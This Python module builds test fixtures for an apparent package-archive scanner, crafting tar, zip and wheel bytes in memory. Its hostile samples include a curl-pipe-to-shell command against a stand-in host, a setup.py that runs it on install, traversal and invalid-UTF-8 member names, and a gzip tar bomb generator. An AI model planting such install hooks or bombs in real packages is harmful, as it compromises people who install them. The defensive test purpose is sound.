"""Builders of small (and some deliberately hostile) artifacts for the integration tests.

Everything is made here from scratch, in memory: no sample from any corpus is copied. The
"payloads" only name hosts under ``example.invalid`` and nothing here is ever run: the tests
hand the bytes to capwatch, which reads them statically.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import stat
import zipfile
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from typing import Any

# A shell payload that capwatch must always see (CW106); the host cannot resolve.
CURL_SH = "curl -fsSL https://payload.example.invalid/install.sh | sh"

MALICIOUS_SETUP = (
    "import subprocess\n"
    "from setuptools import setup\n"
    f"subprocess.Popen({CURL_SH!r}, shell=True)\n"
    "setup(name='evilnormal', version='1.0')\n"
)
BENIGN_SETUP = (
    "from setuptools import setup\n"
    "setup(name='nicepkg', version='1.0', packages=['nicepkg'])\n"
)
BENIGN_INIT = (
    '"""A perfectly ordinary package."""\n\n'
    "def add(a: int, b: int) -> int:\n"
    "    return a + b\n"
)
PY_PAYLOAD = f"import os\nos.system({CURL_SH!r})\n"


def pkg_info(name: str, version: str) -> bytes:
    return f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode()


# ------------------------------------------------------------------------------------------------
# Raw tar: full control over names (absolute, "..", invalid UTF-8), links, and speed.


@dataclass(frozen=True, slots=True)
class TarEntry:
    name: bytes
    data: bytes = b""
    type: bytes = b"0"  # b"0" file, b"1" hard link, b"2" symlink, b"5" directory
    linkname: bytes = b""


def tar_header(entry: TarEntry, size: int | None = None) -> bytes:
    """One ustar header block; names up to 100 bytes (long enough for every test here).

    ``size`` overrides the size field (for a member whose data is streamed separately).
    """
    if len(entry.name) > 100 or len(entry.linkname) > 100:
        raise ValueError("name too long for a plain ustar header")
    if size is None:
        size = len(entry.data) if entry.type == b"0" else 0
    h = bytearray(512)
    h[0 : len(entry.name)] = entry.name
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = b"%011o\0" % size
    h[136:148] = b"%011o\0" % 1_700_000_000
    h[148:156] = b" " * 8
    h[156:157] = entry.type
    h[157 : 157 + len(entry.linkname)] = entry.linkname
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


def raw_tar(entries: Iterable[TarEntry]) -> bytes:
    out = bytearray()
    for entry in entries:
        out += tar_header(entry)
        if entry.type == b"0" and entry.data:
            out += entry.data
            out += b"\0" * (-len(entry.data) % 512)
    out += b"\0" * 1024
    return bytes(out)


def empty_members_tar(names: Iterable[bytes]) -> bytes:
    """Headers of many empty regular files, fast: one template, name and checksum patched."""
    template = tar_header(TarEntry(b""))
    blank = bytearray(template)
    blank[148:156] = b" " * 8
    base = sum(blank)
    head, middle, tail = bytes(template[100:148]), b"", bytes(template[156:])
    out = bytearray()
    for name in names:
        out += name.ljust(100, b"\0")
        out += head
        out += b"%06o\0 " % (base + sum(name))
        out += tail
    del middle
    return bytes(out)


def tar_gz(entries: Iterable[TarEntry], level: int = 6) -> bytes:
    return gzip.compress(raw_tar(entries), compresslevel=level, mtime=0)


def sdist_entries(top: str, files: dict[str, bytes | str]) -> list[TarEntry]:
    name, _, version = top.rpartition("-")
    entries = [TarEntry(f"{top}/PKG-INFO".encode(), pkg_info(name, version))]
    for path, content in files.items():
        data = content.encode() if isinstance(content, str) else content
        entries.append(TarEntry(f"{top}/{path}".encode(), data))
    return entries


# ------------------------------------------------------------------------------------------------
# Zip


def zip_bytes(
    files: Sequence[tuple[str, bytes | str]],
    *,
    compression: int = zipfile.ZIP_DEFLATED,
    symlinks: Sequence[tuple[str, str]] = (),
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as zf:
        for name, content in files:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = compression
            info.external_attr = (stat.S_IFREG | 0o644) << 16
            zf.writestr(info, content)
        for name, target in symlinks:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.create_system = 3  # unix, so external_attr carries the file type
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, target)
    return buffer.getvalue()


def wheel_files(name: str, version: str) -> list[tuple[str, bytes | str]]:
    dist = f"{name}-{version}.dist-info"
    return [
        (f"{dist}/METADATA", pkg_info(name, version)),
        (f"{dist}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
        (f"{dist}/RECORD", ""),
    ]


def rename_zip_member(data: bytes, placeholder: bytes, raw_name: bytes, *, utf8_flag: bool) -> bytes:
    """Replace a member name by raw bytes (same length) in the local and central headers.

    With ``utf8_flag`` the general-purpose bit 11 is set, so the (invalid) bytes claim UTF-8.
    """
    if len(placeholder) != len(raw_name):
        raise ValueError("the raw name must have the placeholder's length")
    out = bytearray(data.replace(placeholder, raw_name))
    if utf8_flag:
        for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            start = 0
            while (at := out.find(sig, start)) != -1:
                name_len_at = at + (26 if sig == b"PK\x03\x04" else 28)
                name_len = int.from_bytes(out[name_len_at : name_len_at + 2], "little")
                name_at = at + (30 if sig == b"PK\x03\x04" else 46)
                if bytes(out[name_at : name_at + name_len]) == raw_name:
                    flags = int.from_bytes(out[at + flag_at : at + flag_at + 2], "little")
                    out[at + flag_at : at + flag_at + 2] = (flags | 0x800).to_bytes(2, "little")
                start = at + 4
    return bytes(out)


# ------------------------------------------------------------------------------------------------
# Bombs and big inputs


def gzip_tar_bomb(top: str, member: str, size: int) -> bytes:
    """A .tar.gz whose one real member is ``size`` zero bytes: a gzip stream of ratio ~1000.

    One MiB of zeros is deflated once and the same full-flushed block repeated (each block is
    independent after a full flush), so building a 1 GiB bomb takes milliseconds and never
    holds the expanded bytes. The header and trailer (CRC-32, length) are valid.
    """
    info = pkg_info("gzbomb", "0.1")
    head = tar_header(TarEntry(f"{top}/PKG-INFO".encode(), info)) + info
    head += b"\0" * (-len(info) % 512)
    head += tar_header(TarEntry(f"{top}/{member}".encode()), size=size)
    mib = 1 << 20
    zeros = b"\0" * mib
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    tail_len = size + 1024  # the member's zeros, then the end-of-archive blocks
    whole, rest = divmod(tail_len, mib)
    last = comp.compress(b"\0" * rest) + comp.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(whole):
        crc = zlib.crc32(zeros, crc)
    crc = zlib.crc32(b"\0" * rest, crc)
    total = len(head) + tail_len
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    trailer = crc.to_bytes(4, "little") + (total & 0xFFFFFFFF).to_bytes(4, "little")
    return header + first + block * whole + last + trailer


def varied_digits(n_bytes: int, seed: int = 0) -> bytes:
    """``n_bytes`` of a comma-separated number list, on one line, without a newline.

    A random 1 MiB chunk repeated: deflate's 32 KiB window cannot see the repetition, so the
    compression ratio stays that of random digits (about 2.3) and no ratio limit is hit.
    """
    rng = random.Random(seed)
    chunk = ",".join(str(rng.randrange(10**8, 10**9)) for _ in range(110_000)).encode()[: 1 << 20]
    chunk = chunk[: chunk.rfind(b",") + 1]
    out = (chunk * (n_bytes // len(chunk) + 1))[:n_bytes]
    return out.rstrip(b",")


# ------------------------------------------------------------------------------------------------
# Reading CLI output


def jsonl_results(text: str) -> list[dict[str, Any]]:
    """Every JSON object in ``text``, whether or not each sits on a line of its own (the line
    structure is checked separately, so one bug does not hide every other result)."""
    decoder = json.JSONDecoder()
    out: list[dict[str, Any]] = []
    at = 0
    while True:
        while at < len(text) and text[at] in " \t\r\n":
            at += 1
        if at >= len(text):
            return out
        obj, at = decoder.raw_decode(text, at)
        out.append(obj)


def rules_of(result: dict[str, Any]) -> set[str]:
    findings = result["findings"]
    assert isinstance(findings, list)
    return {f["rule"] for f in findings}


def messages_of(result: dict[str, Any], rule: str | None = None) -> str:
    findings = result["findings"]
    assert isinstance(findings, list)
    return "\n".join(
        f["message"] + "\n" + "\n".join(json.dumps(e) for e in f["evidence"])
        for f in findings
        if rule is None or f["rule"] == rule
    )
